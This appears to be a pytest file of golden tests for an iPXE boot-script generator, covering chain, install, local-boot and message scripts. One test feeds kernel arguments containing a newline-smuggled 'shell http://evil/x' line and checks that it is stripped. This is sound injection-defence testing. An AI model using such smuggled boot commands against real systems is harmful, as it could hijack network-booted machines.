"""The iPXE scripts (golden): chain, install, local boot, messages."""

from __future__ import annotations

from typing import Any

from flightdeck.pxe import ipxe

BASE = "http://10.1.1.1:8078"
MAC = "0a:02:00:80:00:00"


def boot(**kw: Any) -> ipxe.InstallBoot:
    base: dict[str, Any] = {
        "host": "compute-0-0-0",
        "mac": MAC,
        "action": "install",
        "kernel_url": f"{BASE}/files/2/vmlinuz",
        "initrd_url": f"{BASE}/files/2/initrd.gz",
        "args": "console=ttyS0 fd.stamp=1",
        "install_url": f"{BASE}/install/{MAC}",
        "report_url": f"{BASE}/install/{MAC}/done",
    }
    return ipxe.InstallBoot(**(base | kw))


def test_chain_script(golden: Any) -> None:
    golden("boot.ipxe", ipxe.chain_script(BASE))
    assert "${netX/mac}" in ipxe.chain_script(BASE)


def test_install_script(golden: Any) -> None:
    text = ipxe.install_script(boot())
    golden("install.ipxe", text)
    kernel = next(ln for ln in text.splitlines() if ln.startswith("kernel "))
    assert kernel.split()[1:3] == [f"{BASE}/files/2/vmlinuz", "initrd=initrd.gz"]
    assert f"fd.host=compute-0-0-0 fd.install={BASE}/install/{MAC}" in kernel
    assert kernel.endswith(f"fd.report={BASE}/install/{MAC}/done")
    assert text.splitlines()[-2:] == [f"initrd {BASE}/files/2/initrd.gz", "boot"]


def test_install_without_initrd_and_hostile_args(golden: Any) -> None:
    text = ipxe.install_script(boot(initrd_url=None, args="quiet\nshell http://evil/x"))
    golden("install-no-initrd.ipxe", text)
    assert "initrd" not in text
    assert not any(ln.startswith("shell") for ln in text.splitlines())


def test_local_and_message_scripts(golden: Any) -> None:
    golden("local.ipxe", ipxe.local_script("compute-0-0-0", MAC))
    golden("unknown.ipxe", ipxe.message_script(MAC, "MAC 0a:02:00:80:00:00 is not known"))
    assert ipxe.local_script("c", MAC).endswith("exit\n")
